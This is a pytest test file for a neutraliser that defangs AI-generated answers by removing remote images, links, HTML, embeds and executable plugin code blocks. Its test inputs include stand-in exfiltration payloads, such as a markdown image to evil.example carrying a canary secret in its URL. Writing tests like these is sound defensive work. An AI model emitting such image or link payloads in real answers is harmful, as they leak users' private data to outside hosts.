"""Answers made inert before rendering: no remote image, no one-click external link, no HTML, no runnable code."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from askvault.safety.answer import SAFE_LANGUAGES, neutralise_answer
from tests.safety.markdown_oracle import live

CORPUS = Path(__file__).resolve().parents[1] / "fixtures" / "neutralise" / "cases.json"


def _kinds(answer: str) -> list[str]:
    return [f"{n.kind}:{n.target or '-'}" for n in neutralise_answer(answer).neutralised]


def _corpus() -> list[object]:
    """The shared corpus (tests/fixtures/neutralise/cases.json), which the plugin's neutraliser is tested on too."""
    cases = json.loads(CORPUS.read_text(encoding="utf-8"))
    return [pytest.param(c["input"], c["inert"], c["neutralised"], id=c["id"]) for c in cases]


def test_the_corpus_is_large_and_named_once() -> None:
    cases = json.loads(CORPUS.read_text(encoding="utf-8"))
    ids = [c["id"] for c in cases]
    assert len(ids) >= 40
    assert len(set(ids)) == len(ids)
    assert any(not c["neutralised"] for c in cases)
    assert {k.split(":")[0] for c in cases for k in c["neutralised"]} == {
        "image",
        "embed",
        "link",
        "definition",
        "html",
        "code",
    }


@pytest.mark.parametrize(("answer", "expected", "kinds"), _corpus())
def test_neutralise_answer(answer: str, expected: str, kinds: list[str]) -> None:
    safe = neutralise_answer(answer)
    assert safe.text == expected
    assert _kinds(answer) == kinds
    assert safe.changed == bool(kinds)
    assert live(safe.text) == []
    assert neutralise_answer(safe.text).text == safe.text


def test_code_stays_code() -> None:
    answer = "```\n![x](http://e.example/p.png) <img src=x>\n```"
    assert neutralise_answer(answer).text == answer
    assert live(answer) == []  # rendered, the image is code text, not an image


@pytest.mark.parametrize(
    "inert",
    [
        pytest.param("Port 5433 [1]. [image removed: evil.example]", id="image"),
        pytest.param("See site (`https://evil.example`) and [1] (`https://evil.example/a`).", id="link"),
        pytest.param('&lt;img src="`https://evil.example/p.png`"> and &lt;/div>', id="tag"),
        pytest.param("[[Private/Secret note]]", id="embed"),
        pytest.param("```text\nLIST FROM #x\n```", id="fence"),
        pytest.param("`(query) = this.file.name`", id="inline-query"),
    ],
)
def test_inert_text_is_left_as_it_is(inert: str) -> None:
    safe = neutralise_answer(inert)
    assert safe.text == inert
    assert safe.neutralised == ()


def test_targets_are_hosts_never_full_urls() -> None:
    safe = neutralise_answer("![x](https://evil.example/?q=CANARY-SECRET) [a](https://e.example/CANARY)")
    assert [n.target for n in safe.neutralised] == ["evil.example", "e.example"]


def test_plain_highlighter_languages() -> None:
    assert {"python", "ts", "bash", "json", "yaml", "text", "c++", "dockerfile"} <= SAFE_LANGUAGES
    assert not {"dataview", "dataviewjs", "tasks", "mermaid", "query", "button", "ad-note"} & SAFE_LANGUAGES
